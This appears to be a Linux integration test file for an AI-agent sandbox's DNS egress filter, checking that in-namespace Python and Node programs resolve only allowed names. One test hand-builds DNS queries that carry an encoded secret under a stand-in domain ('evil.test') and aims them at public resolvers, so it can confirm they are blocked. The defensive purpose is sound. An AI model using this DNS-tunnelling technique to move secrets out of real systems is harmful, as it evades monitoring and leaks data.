# SPDX-License-Identifier: MIT
"""Names as programs in a real attachment look them up, with the C library and with packets of their own."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import AsyncExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from agentbox.egress.attachment import Attachment
from agentbox.egress.events import EgressEvent
from agentbox.egress.names import SyntheticNames
from agentbox.egress.resolver import Resolver
from agentbox.egress.rules import EgressRules
from agentbox.egress.stock import AttachmentStock
from agentbox.egress.upstream import Upstream
from agentbox.policy.parser import parse
from tests.conftest import not_here
from tests.unit.egress.name_server import NameServer, Said

pytestmark = [pytest.mark.linux, pytest.mark.root]

_LOOKS_UP = """
import json, socket, sys
found = {}
for name in sys.argv[1:]:
    for label, flags in (("", 0), (" if configured", socket.AI_ADDRCONFIG)):
        try:
            entries = socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM, flags=flags)
            found[name + label] = sorted({entry[4][0] for entry in entries})
        except socket.gaierror as error:
            found[name + label] = error.errno
print(json.dumps(found))
"""
_SENDS_PACKETS = """
import json, socket, struct, sys
answers = {}
for target in (("8.8.8.8", 53), ("2001:4860:4860::8888", 53), ("8.8.8.8", 5353), ("10.0.0.1", 4789)):
    family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.5)
        query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
        for label in sys.argv[1].split("."):
            query += bytes((len(label),)) + label.encode()
        try:
            sock.sendto(query + b"\\0\\0\\1\\0\\1", target)
            answers[f"{target[0]} {target[1]}"] = sock.recv(512)[3] & 15
        except OSError as error:
            answers[f"{target[0]} {target[1]}"] = type(error).__name__
print(json.dumps(answers))
"""


@dataclass
class Guest:
    """A namespace whose names are served here, and what programs in it see."""

    attachment: Attachment
    upstream: NameServer
    names: SyntheticNames
    events: list[EgressEvent]
    resolver_file: Path

    async def run(self, code: str, *arguments: str, program: tuple[str, ...] = (sys.executable, "-c")) -> Any:
        """What a program in the namespace, Python unless another is named, prints as JSON."""
        inside = f'mount --bind {self.resolver_file} /etc/resolv.conf && exec "$@"'
        process = await asyncio.create_subprocess_exec(
            *("nsenter", f"--net=/proc/self/fd/{self.attachment.namespace_fd}"),
            *("unshare", "--mount", "sh", "-c", inside, "sh", *program, code, *arguments),
            stdout=asyncio.subprocess.PIPE,
            pass_fds=(self.attachment.namespace_fd,),
        )
        output, _ = await process.communicate()
        assert process.returncode == 0
        return json.loads(output)


@pytest.fixture
async def guest(tmp_path: Path) -> AsyncIterator[Callable[..., Any]]:
    if os.geteuid() != 0:
        not_here("another file takes the place of /etc/resolv.conf, which needs root")
    if not shutil.which("nsenter"):
        pytest.skip("util-linux is missing: apt-get install util-linux")
    async with AsyncExitStack() as stack:

        async def make(*rules: str, name_server: str = "192.0.2.53", said: Said | None = None) -> Guest:
            answer = said or Said(("93.184.216.34", "2606:2800:220:1::1"))
            server = await stack.enter_async_context(NameServer(lambda name, qtype: answer))
            stock = AttachmentStock(size=0)
            stack.push_async_callback(stock.close)
            attachment = await stock.lease()
            stack.callback(attachment.close)
            upstream = Upstream(server.address)
            stack.push_async_callback(upstream.close)
            allowed = EgressRules.of(parse("".join(f"net: {rule}\n" for rule in rules), root="/"))
            events: list[EgressEvent] = []
            names = SyntheticNames()
            resolver = Resolver(lambda: allowed, names, upstream, events.append)
            stack.push_async_callback(resolver.close)
            for sock in attachment.dns_datagrams:
                resolver.serve_udp(sock)
            for sock in attachment.dns_streams:
                resolver.serve_tcp(sock)
            path = tmp_path / "resolv.conf"
            path.write_text(f"nameserver {name_server}\n")
            return Guest(attachment, server, names, events, path)

        yield make


@pytest.mark.parametrize(
    "name_server", ["192.0.2.53", "127.0.0.53", "2001:db8::53", "192.0.2.53\noptions use-vc edns0"]
)
async def test_c_library_finds_allowed_names_and_no_others(guest: Any, name_server: str) -> None:
    here = await guest("*.allowed.test:443", name_server=name_server)
    asked = ("www.allowed.test", "WWW.Allowed.TEST.", "allowed.test", "evil.test", "localhost", "x.localhost")
    found = await here.run(_LOOKS_UP, *asked)
    one = found["www.allowed.test"]
    assert len(one) == 2
    assert {here.names.name_of(address) for address in one} == {"www.allowed.test"}
    assert found["WWW.Allowed.TEST."] == found["www.allowed.test if configured"] == one
    for name in ("allowed.test", "evil.test"):
        assert found[name] == found[f"{name} if configured"] == -2, "EAI_NONAME"
    assert found["x.localhost"] == ["127.0.0.1", "::1"]
    assert "127.0.0.1" in found["localhost"]
    assert {event.host for event in here.events if not event.allowed} == {"allowed.test", "evil.test"}
    assert {name.lower() for name, _ in here.upstream.asked} == {"www.allowed.test"}


async def test_missing_name_is_missing_and_silence_of_the_upstream_a_failure(guest: Any) -> None:
    here = await guest("*.allowed.test", said=Said(code=3))
    assert (await here.run(_LOOKS_UP, "no.allowed.test"))["no.allowed.test"] == -2
    here = await guest("*.allowed.test", said=Said(code=2))
    assert (await here.run(_LOOKS_UP, "no.allowed.test"))["no.allowed.test"] == -3, "EAI_AGAIN"


async def test_secret_in_a_question_leaves_neither_by_the_resolver_nor_past_it(guest: Any) -> None:
    here = await guest("*.allowed.test")
    secret = "c2VjcmV0.canary.evil.test"
    answers = await here.run(_SENDS_PACKETS, secret)
    assert answers["8.8.8.8 53"] == 3, "NXDOMAIN of our own, whoever was asked"
    assert answers["2001:4860:4860::8888 53"] == 3
    assert {answers["8.8.8.8 5353"], answers["10.0.0.1 4789"]} <= {
        "TimeoutError",
        "ConnectionRefusedError",
        "PermissionError",
    }
    assert here.upstream.asked == []
    assert {event.host for event in here.events} == {secret.lower()}
    assert here.attachment.dropped() >= 2


async def test_address_that_stands_for_a_name_has_it_in_reverse(guest: Any) -> None:
    here = await guest("*.allowed.test")
    code = """
import json, socket
address = socket.getaddrinfo("a.allowed.test", 1, socket.AF_INET)[0][4][0]
print(json.dumps([socket.gethostbyaddr(address)[0], socket.getfqdn("198.18.200.9")]))
"""
    assert await here.run(code) == ["a.allowed.test", "198.18.200.9"]


async def test_node_finds_names_with_its_own_resolver_and_with_that_of_the_system(guest: Any) -> None:
    node = shutil.which("node")
    if node is None:
        pytest.skip("Node is missing: apt-get install nodejs")
    here = await guest("*.allowed.test")
    code = """
const dns = require('node:dns').promises;
const told = (promise) => promise.then((found) => found, (error) => error.code);
(async () => console.log(JSON.stringify([
  await told(dns.resolve4('a.allowed.test')), await told(dns.resolve6('a.allowed.test')),
  (await dns.lookup('a.allowed.test', { all: true })).map((found) => found.address),
  await told(dns.resolve4('evil.test')), await told(dns.lookup('evil.test')),
  await told(dns.resolveTxt('a.allowed.test')), await told(dns.resolveMx('evil.test')),
  await told(dns.resolveAny('evil.test')),
])))();
"""
    four, six, both, *others = await here.run(code, program=(node, "-e"))
    assert sorted(both) == sorted(four + six)
    assert {here.names.name_of(address) for address in both} == {"a.allowed.test"}
    assert others == ["ENOTFOUND", "ENOTFOUND", "ENODATA", "ENOTFOUND", "ENOTFOUND"]
